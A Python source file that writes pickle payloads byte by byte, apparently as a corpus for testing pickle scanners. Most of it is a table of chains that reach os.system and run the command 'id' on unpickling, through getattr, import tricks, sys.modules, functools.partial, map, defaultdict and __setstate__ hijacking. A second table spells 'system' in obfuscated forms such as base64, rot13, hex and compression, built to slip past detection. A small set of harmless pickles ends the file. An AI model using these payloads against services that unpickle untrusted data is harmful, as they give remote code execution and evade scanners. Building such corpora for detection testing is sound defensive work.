# SPDX-License-Identifier: GPL-3.0-or-later
"""Chains that reach a function through others, as pickles. An expression is written in Python:

    C(G("builtins", "getattr"), C(G("importlib", "import_module"), "os"), "system")

is a call of a call; plain values stand for themselves. Shared parts are shared through the memo."""
import bz2
import gzip
import lzma
import operator
import struct
import zlib


class G:
    """A global. As a name, module and attribute are expressions too (STACK_GLOBAL)."""

    def __init__(self, module, name):
        self.module, self.name = module, name


class C:
    """A call: REDUCE."""

    def __init__(self, callee, *args):
        self.callee, self.args = callee, args


class N(C):
    """An instance: NEWOBJ."""


class I(C):
    """The same by INST (plain names alone)."""


class B:
    """An object with states given to it by BUILD, one after the other."""

    def __init__(self, obj, *states):
        self.obj, self.states = obj, states


class P:
    """An object with items put on it: kind "append", "appends", "setitems", "additems"."""

    def __init__(self, obj, kind, *items):
        self.obj, self.kind, self.items = obj, kind, items


class Do:
    """Several in a row, of which the last is the value; the others are taken off the stack."""

    def __init__(self, *parts):
        self.parts = parts


class Kw:
    """NEWOBJ_EX: class, arguments, keyword arguments."""

    def __init__(self, cls, args, kwargs):
        self.cls, self.args, self.kwargs = cls, args, kwargs


class Writer:
    def __init__(self):
        self.out = bytearray(b"\x80\x04")
        self.memo = {}

    def put(self, value):
        shared = id(value) in self.memo
        if shared:
            self.out += b"j" + struct.pack("<I", self.memo[id(value)])
            return
        self.put_new(value)
        if isinstance(value, (C, B, P, Kw, list, dict)):
            self.memo[id(value)] = number = len(self.memo)
            self.out += b"r" + struct.pack("<I", number)

    def put_text(self, code, text):
        self.out += code + struct.pack("<I", len(text)) + text

    def put_tuple(self, items):
        self.out += b"("
        for item in items:
            self.put(item)
        self.out += b"t"

    def put_new(self, value):
        if value is None:
            self.out += b"N"
        elif isinstance(value, bool):
            self.out += b"\x88" if value else b"\x89"
        elif isinstance(value, int):
            self.out += b"J" + struct.pack("<i", value)
        elif isinstance(value, str):
            self.put_text(b"X", value.encode("utf-8", "surrogatepass"))
        elif isinstance(value, bytes):
            self.put_text(b"B", value)
        elif isinstance(value, tuple):
            self.put_tuple(value)
        elif isinstance(value, list):
            self.out += b"](" if value else b"]"
            for item in value:
                self.put(item)
            self.out += b"e" if value else b""
        elif isinstance(value, dict):
            self.out += b"}(" if value else b"}"
            for key, item in value.items():
                self.put(key)
                self.put(item)
            self.out += b"u" if value else b""
        elif isinstance(value, G):
            self.put(value.module)
            self.put(value.name)
            self.out += b"\x93"
        elif isinstance(value, I):
            self.out += b"("
            for item in value.args:
                self.put(item)
            self.out += f"i{value.callee.module}\n{value.callee.name}\n".encode()
        elif isinstance(value, C):
            self.put(value.callee)
            self.put_tuple(value.args)
            self.out += b"\x81" if isinstance(value, N) else b"R"
        elif isinstance(value, B):
            self.put(value.obj)
            for state in value.states:
                self.put(state)
                self.out += b"b"
        elif isinstance(value, P):
            self.put_items(value)
        elif isinstance(value, Kw):
            self.put(value.cls)
            self.put(value.args)
            self.put(value.kwargs)
            self.out += b"\x92"
        elif isinstance(value, Do):
            for part in value.parts[:-1]:
                self.put(part)
                self.out += b"0"
            self.put(value.parts[-1])
        else:
            raise TypeError(value)

    def put_items(self, value):
        self.put(value.obj)
        if value.kind == "append":
            self.put(value.items[0])
            self.out += b"a"
            return
        self.out += b"("
        for item in value.items:
            self.put(item)
        self.out += {"appends": b"e", "setitems": b"u", "additems": b"\x90"}[value.kind]


def pickle_of(value):
    writer = Writer()
    writer.put(value)
    return bytes(writer.out + b".")


# ---- The chains ----------------------------------------------------------------------------------

def builtin(name):
    return G("builtins", name)


GETATTR = builtin("getattr")
IMPORT = G("importlib", "import_module")
SYSTEM = G("os", "system")
PARTIAL = G("functools", "partial")
ATTRGETTER = G("operator", "attrgetter")
ITEMGETTER = G("operator", "itemgetter")
METHODCALLER = G("operator", "methodcaller")
OS = C(IMPORT, "os")


def attribute(obj, name):
    return C(GETATTR, obj, name)


def method(obj, name, *args):
    return C(attribute(obj, name), *args)


def run(callee, command="id"):
    return C(callee, command)


def named(name):
    """os.system, its name computed."""
    return G("os", name)


def by_getattr(name):
    return run(attribute(OS, name))


NAMES = {
    "join": method("", "join", ["sys", "tem"]),
    "join_chars": method("", "join", C(builtin("map"), builtin("chr"), [115, 121, 115, 116, 101, 109])),
    "join_reversed": method("", "join", C(builtin("reversed"), "metsys")),
    "join_tuple_chr": method("", "join", (C(builtin("chr"), 115), "ystem")),
    "replace": method("syXtem", "replace", "X", "s"),
    "replace_count": method("sysXXtem", "replace", "X", ""),
    "format": method("{}{}", "format", "sys", "tem"),
    "format_index": method("{1}{0}", "format", "tem", "sys"),
    "format_attr": method("{0[1]}{0[0]}", "format", ["tem", "sys"]),
    "format_map": method("{a}tem", "format_map", {"a": "sys"}),
    "percent": C(G("operator", "mod"), "%s%s", ("sys", "tem")),
    "percent_one": C(G("operator", "mod"), "sys%s", "tem"),
    "percent_dict": method("sy%(a)s", "__mod__", {"a": "stem"}),
    "percent_c": C(G("operator", "mod"), "%cystem", 115),
    "add": C(G("operator", "add"), "sys", "tem"),
    "dunder_add": method("sys", "__add__", "tem"),
    "str_add": C(builtin("str.__add__"), "sys", "tem"),
    "str_join": C(builtin("str.join"), "", ["sys", "tem"]),
    "concat": C(G("operator", "concat"), "sys", "tem"),
    "sum": C(G("functools", "reduce"), G("operator", "add"), ["s", "y", "s", "tem"]),
    "decode": method(b"system", "decode", "ascii"),
    "decode_utf16": method("system".encode("utf-16-le"), "decode", "utf_16_le"),
    "decode_utf16_mark": method("system".encode("utf-16"), "decode", "UTF-16"),
    "str_bytes": C(builtin("str"), b"system", "utf-8"),
    "str_new": N(builtin("str"), "system"),
    "rot13": C(G("codecs", "decode"), "flfgrz", "rot13"),
    "rot_13_encode": C(G("codecs", "encode"), "flfgrz", "rot-13"),
    "hex": method(C(G("codecs", "decode"), b"73797374656d", "hex"), "decode"),
    "fromhex": method(C(builtin("bytes.fromhex"), "73 79 73 74 65 6d"), "decode"),
    "unhexlify": method(C(G("binascii", "unhexlify"), "73797374656d"), "decode"),
    "b64": method(C(G("base64", "b64decode"), "c3lzdGVt"), "decode"),
    "b32": method(C(G("base64", "b32decode"), "ON4XG5DFNU======"), "decode"),
    "b85": method(C(G("base64", "b85decode"), "b9r-gWo-"), "decode"),
    "a2b_base64": method(C(G("binascii", "a2b_base64"), "c3lzdGVt"), "decode"),
    "zlib": method(C(G("zlib", "decompress"), zlib.compress(b"system")), "decode"),
    "gzip": method(C(G("gzip", "decompress"), gzip.compress(b"system", mtime=0)), "decode"),
    "bz2": method(C(G("bz2", "decompress"), bz2.compress(b"system")), "decode"),
    "lzma": method(C(G("lzma", "decompress"), lzma.compress(b"system")), "decode"),
    "unicode_escape": method(b"\\x73\\u0079stem", "decode", "unicode_escape"),
    "raw_unicode_escape": method(b"s\\u0079stem", "decode", "raw_unicode_escape"),
    "escape_decode": method(C(C(ITEMGETTER, 0), C(G("codecs", "escape_decode"), b"\\x73ystem")), "decode"),
    "slice_back": C(G("operator", "getitem"), "metsys", C(builtin("slice"), None, None, -1)),
    "slice_part": C(G("operator", "getitem"), "xsystemx", C(builtin("slice"), 1, 7)),
    "slice_step": method("s-y-s-t-e-m", "__getitem__", C(builtin("slice"), None, None, 2)),
    "upper_lower": method("SYSTEM", "lower"),
    "swapcase": method("SYSTEM", "swapcase"),
    "casefold": method("SYSTEM", "casefold"),
    "strip": method("xxsystemxx", "strip", "x"),
    "lstrip": method("  system", "lstrip"),
    "removeprefix": method("os.system", "removeprefix", "os."),
    "removesuffix": method("system.x", "removesuffix", ".x"),
    "split": C(C(ITEMGETTER, 1), method("os system", "split")),
    "split_by": C(C(ITEMGETTER, -1), method("os.system", "split", ".")),
    "partition": C(C(ITEMGETTER, 2), method("os:system", "partition", ":")),
    "translate": method("$y$tem", "translate", C(builtin("str.maketrans"), "$", "s")),
    "translate_dict": method("1ystem", "translate", {49: "s"}),
    "translate_bytes": method(method(b"$y$tem", "translate", C(builtin("bytes.maketrans"), b"$", b"s")), "decode"),
    "dict_get": method({"a": "system"}, "get", "a"),
    "dict_default": method({}, "get", "a", "system"),
    "dict_item": C(G("operator", "getitem"), {"a": "system"}, "a"),
    "dict_made": C(G("operator", "getitem"), C(builtin("dict"), [("a", "system")]), "a"),
    "dict_filled": C(G("operator", "getitem"), P(C(builtin("dict")), "setitems", "a", "system"), "a"),
    "dict_values": C(builtin("next"), C(builtin("iter"), method({"a": "system"}, "values"))),
    "setdefault": method({}, "setdefault", 1, "system"),
    "list_item": C(G("operator", "getitem"), ["x", "system"], 1),
    "list_pop": method(["x", "system"], "pop"),
    "listed_append": C(G("operator", "getitem"), P(C(builtin("list")), "append", "system"), 0),
    "next_iter": C(builtin("next"), C(builtin("iter"), ["system"])),
    "max": C(C(ITEMGETTER, 0), C(builtin("sorted"), ["system"])),
    "zip": C(C(ITEMGETTER, 1), C(builtin("next"), C(builtin("zip"), [1], ["system"]))),
    "chain": C(builtin("next"), C(G("itertools", "chain"), [], ["system"])),
    "itemgetter_two": method("", "join", C(C(ITEMGETTER, 1, 0), ["tem", "sys"])),
    "methodcaller": C(C(METHODCALLER, "lower"), "SYSTEM"),
    "methodcaller_args": C(C(METHODCALLER, "replace", "-", ""), "sys-tem"),
    "partial_join": C(C(PARTIAL, builtin("str.join"), ""), ["sys", "tem"]),
    "bytes_of_ints": method(C(builtin("bytes"), [115, 121, 115, 116, 101, 109]), "decode"),
    "bytearray": method(C(builtin("bytearray"), b"system"), "decode"),
    "to_bytes": method(method(C(builtin("int"), "126965465245037"), "to_bytes", 6, "big"), "decode"),
    "int_text": method("{}ystem", "format", C(builtin("chr"), C(builtin("int"), "73", 16))),
    "repr": method(C(builtin("repr"), "system"), "strip", "'"),
    "dict_fromkeys": C(builtin("next"), C(builtin("iter"), {"system": 1})),
    "copy": C(G("copy", "copy"), "system"),
    "cast": C(G("typing", "cast"), 1, "system"),
    "literal_eval": C(G("ast", "literal_eval"), "'system'"),
    "json": C(G("json", "loads"), '"system"'),
    "unquote": C(G("urllib.parse", "unquote"), "%73ystem"),
    "attr_of_instance": attribute(B(N(G("types", "SimpleNamespace")), {"n": "system"}), "n"),
    "attr_of_slots": attribute(B(N(G("types", "SimpleNamespace")), (None, {"n": "system"})), "n"),
    "partial_args": C(C(ITEMGETTER, 0), attribute(C(PARTIAL, builtin("len"), "system"), "args")),
    "multiply": C(G("operator", "concat"), C(G("operator", "mul"), "s", 1), "ystem"),
}

DICT = attribute(OS, "__dict__")
SYS_MODULES = G("sys", "modules")

CHAINS = {
    "getattr": by_getattr("system"),
    "getattr_default": run(C(GETATTR, OS, "system", None)),
    "import": run(attribute(C(builtin("__import__"), "os"), "system")),
    "import_os_path": run(attribute(C(builtin("__import__"), "os.path"), "system")),
    "import_fromlist": run(attribute(attribute(C(builtin("__import__"), "os.path", None, None, ["x"]), "os"), "system")),
    "gcd_import": run(attribute(C(G("importlib._bootstrap", "_gcd_import"), "os"), "system")),
    "resolve_name": run(C(G("pkgutil", "resolve_name"), "os:system")),
    "resolve_name_dot": run(C(G("pkgutil", "resolve_name"), "os.system")),
    "locate": run(C(G("pydoc", "locate"), "os.system")),
    "getattr_static": run(C(G("inspect", "getattr_static"), OS, "system")),
    "object_getattribute": run(C(builtin("object.__getattribute__"), OS, "system")),
    "attrgetter": run(C(C(ATTRGETTER, "system"), OS)),
    "attrgetter_path": run(C(C(ATTRGETTER, "os.system"), C(IMPORT, "shutil"))),
    "attrgetter_two": run(C(C(ITEMGETTER, 1), C(C(ATTRGETTER, "getcwd", "system"), OS))),
    "methodcaller": C(C(METHODCALLER, "system", "id"), OS),
    "modules": run(attribute(C(G("operator", "getitem"), SYS_MODULES, "os"), "system")),
    "modules_get": run(attribute(method(SYS_MODULES, "get", "os"), "system")),
    "modules_get_dotted": run(attribute(C(G("sys", "modules.get"), "os"), "system")),
    "modules_itemgetter": run(attribute(C(C(ITEMGETTER, "os"), SYS_MODULES), "system")),
    "dict": run(C(G("operator", "getitem"), DICT, "system")),
    "dict_get": run(method(DICT, "get", "system")),
    "vars": run(C(G("operator", "getitem"), C(builtin("vars"), OS), "system")),
    "vars_itemgetter": run(C(C(ITEMGETTER, "system"), C(builtin("vars"), OS))),
    "dotted_dict": run(C(G("os", "__dict__.__getitem__"), "system")),
    "globals": run(attribute(C(G("operator", "getitem"), attribute(G("shutil", "rmtree"), "__globals__"), "os"), "system")),
    "builtins_of_globals": run(attribute(C(C(G("operator", "getitem"), C(builtin("vars"), C(IMPORT, "builtins")), "__import__"), "os"), "system")),
    "self_of_builtin": run(attribute(C(attribute(attribute(builtin("len"), "__self__"), "__import__"), "os"), "system")),
    "call_dunder": C(attribute(SYSTEM, "__call__"), "id"),
    "operator_call": C(G("operator", "call"), SYSTEM, "id") if hasattr(operator, "call") else run(SYSTEM),
    "partial": C(C(PARTIAL, SYSTEM, "id")),
    "partial_rest": C(C(PARTIAL, SYSTEM), "id"),
    "partial_nested": C(C(PARTIAL, C(PARTIAL, SYSTEM, "id"))),
    "partial_call": C(G("functools", "partial.__call__"), C(PARTIAL, SYSTEM, "id")),
    "partial_built": C(B(C(PARTIAL, builtin("len")), (SYSTEM, ("id",), {}, None))),
    "partial_func": run(attribute(C(PARTIAL, SYSTEM), "func")),
    "partial_newobj": C(N(PARTIAL, SYSTEM, "id")),
    "partial_getattr": run(C(C(PARTIAL, GETATTR, OS), "system")),
    "reduce": run(C(G("functools", "reduce"), GETATTR, ["path", "os", "system"], OS)),
    "reduce_one": run(C(G("functools", "reduce"), GETATTR, ("system",), OS)),
    "map_list": C(builtin("list"), C(builtin("map"), SYSTEM, ["id", "ls"])),
    "map_tuple": C(builtin("tuple"), C(builtin("map"), SYSTEM, ("id",))),
    "map_set": C(builtin("set"), C(builtin("map"), SYSTEM, ["id"])),
    "map_frozenset": C(builtin("frozenset"), C(builtin("map"), SYSTEM, ["id"])),
    "map_any": C(builtin("any"), C(builtin("map"), SYSTEM, ["id"])),
    "map_all": C(builtin("all"), C(builtin("map"), SYSTEM, ["id"])),
    "map_sum": C(builtin("sum"), C(builtin("map"), SYSTEM, ["id"])),
    "map_max": C(builtin("max"), C(builtin("map"), SYSTEM, ["id"])),
    "map_sorted": C(builtin("sorted"), C(builtin("map"), SYSTEM, ["id"])),
    "map_deque": C(G("collections", "deque"), C(builtin("map"), SYSTEM, ["id"])),
    "map_bytes": C(builtin("bytes"), C(builtin("map"), SYSTEM, ["id"])),
    "map_dict": C(builtin("dict"), C(builtin("zip"), C(builtin("map"), SYSTEM, ["id"]), [1])),
    "map_counter": C(G("collections", "Counter"), C(builtin("map"), SYSTEM, ["id"])),
    "map_next": C(builtin("next"), C(builtin("map"), SYSTEM, ["id"])),
    "map_dunder_next": method(C(builtin("map"), SYSTEM, ["id"]), "__next__"),
    "map_newobj": C(builtin("list"), N(builtin("map"), SYSTEM, ["id"])),
    "map_zip": C(builtin("list"), C(builtin("zip"), C(builtin("map"), SYSTEM, ["id"]))),
    "map_enumerate": C(builtin("next"), C(builtin("enumerate"), C(builtin("map"), SYSTEM, ["id"]))),
    "map_chain": C(builtin("list"), C(G("itertools", "chain"), [1], C(builtin("map"), SYSTEM, ["id"]))),
    "map_chain_from": C(builtin("list"), C(G("itertools", "chain.from_iterable"), [C(builtin("map"), SYSTEM, ["id"])])),
    "map_later_items": Do(*(lambda items: (C(builtin("list"), C(builtin("map"), SYSTEM, P(items, "append", "id"))),))([])),
    "map_extend": method(C(builtin("list")), "extend", C(builtin("map"), SYSTEM, ["id"])),
    "map_update": method(C(builtin("set")), "update", C(builtin("map"), SYSTEM, ["id"])),
    "map_join": method("", "join", C(builtin("map"), C(PARTIAL, builtin("str")), C(builtin("map"), SYSTEM, ["id"]))),
    "map_map": C(builtin("list"), C(builtin("map"), builtin("str"), C(builtin("map"), SYSTEM, ["id"]))),
    "map_getattr": run(C(C(ITEMGETTER, 0), C(builtin("list"), C(builtin("map"), C(PARTIAL, GETATTR, OS), ["system"])))),
    "map_import": run(attribute(C(builtin("next"), C(builtin("map"), IMPORT, ["os"])), "system")),
    "filter": C(builtin("list"), C(builtin("filter"), SYSTEM, ["id"])),
    "filterfalse": C(builtin("list"), C(G("itertools", "filterfalse"), SYSTEM, ["id"])),
    "starmap": C(builtin("list"), C(G("itertools", "starmap"), SYSTEM, [("id",)])),
    "repeat": C(builtin("next"), C(builtin("map"), SYSTEM, C(G("itertools", "repeat"), "id", 1))),
    "takewhile": C(builtin("list"), C(G("itertools", "takewhile"), SYSTEM, ["id"])),
    "iter_sentinel": C(builtin("next"), C(builtin("iter"), C(PARTIAL, SYSTEM, "id"), 1)),
    "defaultdict": C(G("operator", "getitem"), C(G("collections", "defaultdict"), C(PARTIAL, SYSTEM, "id")), "k"),
    "defaultdict_missing": method(C(G("collections", "defaultdict"), C(PARTIAL, SYSTEM, "id")), "__missing__", "k"),
    "defaultdict_format": method("{0[k]}", "format", C(G("collections", "defaultdict"), C(PARTIAL, SYSTEM, "id"))),
    "defaultdict_percent": C(G("operator", "mod"), "%(k)s", C(G("collections", "defaultdict"), C(PARTIAL, SYSTEM, "id"))),
    "popped": Do(run(SYSTEM), 1),
    "kw_sorted": C(Kw(PARTIAL, (builtin("sorted"), ["id"]), {"key": SYSTEM})),
    "kw_max": C(Kw(PARTIAL, (builtin("max"), ["id", "ls"]), {"key": SYSTEM})),
    "kw_list_sort": C(Kw(PARTIAL, (builtin("list.sort"), ["id"]), {"key": SYSTEM})),
    "newobj": C(C(G("copyreg", "__newobj__"), PARTIAL, SYSTEM, "id")),
    "method_type": C(C(G("types", "MethodType"), SYSTEM, "id")),
    "copy": run(C(G("copy", "copy"), SYSTEM)),
    "lru_cache": run(C(G("functools", "lru_cache"), SYSTEM)),
    "cache": run(C(G("functools", "cache"), SYSTEM)),
    "singledispatch": run(C(G("functools", "singledispatch"), SYSTEM)),
    "deepcopy": run(C(G("copy", "deepcopy"), SYSTEM)),
    "setstate_attr": B(N(G("types", "SimpleNamespace")), {"__setstate__": SYSTEM}, "id"),
    "setstate_slots": B(N(G("types", "SimpleNamespace")), (None, {"__setstate__": SYSTEM}), "id"),
    "setstate_user": B(N(G("collections", "UserDict")), {"__setstate__": SYSTEM}, "id"),
    "setstate_partial": B(N(G("types", "SimpleNamespace")), {"__setstate__": C(PARTIAL, SYSTEM)}, "id"),
    "append_attr": P(B(N(G("types", "SimpleNamespace")), {"append": SYSTEM}), "append", "id"),
    "appends_attr": P(B(N(G("types", "SimpleNamespace")), {"append": SYSTEM}), "appends", "id", "ls"),
    "extend_sorted": P(B(N(G("types", "SimpleNamespace")), {"extend": C(PARTIAL, C(Kw(PARTIAL, (PARTIAL, builtin("sorted")), {"key": SYSTEM})))}), "append", "id"),
    "add_attr": P(B(N(G("types", "SimpleNamespace")), {"add": SYSTEM}), "additems", "id"),
    "inst_map": C(builtin("list"), I(builtin("map"), SYSTEM, ["id"])),
    "filter_none": run(C(builtin("next"), C(builtin("filter"), None, [SYSTEM]))),
    "dict_of_functions": run(C(G("operator", "getitem"), {"f": SYSTEM}, "f")),
    "getattr_posix": run(attribute(C(IMPORT, "posix"), "system")),
    "stack_global_module": run(G(method("so", "__getitem__", C(builtin("slice"), None, None, -1)), "system")),
    "both_computed": run(G(C(G("codecs", "decode"), "bf", "rot13"), NAMES["join"])),
    "built_names": Do(B(G("json", "dumps"), (None, {"a": "os"})), B(G("json", "dumps"), (None, {"b": "system"})),
                      run(G(G("json", "dumps.a"), G("json", "dumps.b")))),
    "eval": C(builtin("list"), C(builtin("map"), builtin("eval"), ["1"])),
    "eval_getattr": C(attribute(C(IMPORT, "builtins"), "eval"), "1"),
}

# Nothing bad happens here, and nothing is said to.
HARMLESS = {
    "ordered": C(G("collections", "OrderedDict"), [("a", 1)]),
    "deque": C(G("collections", "deque"), ["os", "system"]),
    "encode": C(G("_codecs", "encode"), "os.system", "latin1"),
    "set": C(builtin("set"), ["eval"]),
    "bytearray": C(builtin("bytearray"), b"os.system"),
    "words": ["os", "system", {"__setstate__": "id", "append": "x"}],
    "append_data": B(P(C(G("collections", "deque")), "append", 1), {"append": 1}),
    "state": N(G("datetime", "timedelta"), 1),
    "slice": C(builtin("slice"), 1, 2, 3),
    "complex": C(builtin("complex"), 1, 2),
    "range": C(builtin("range"), 3),
}
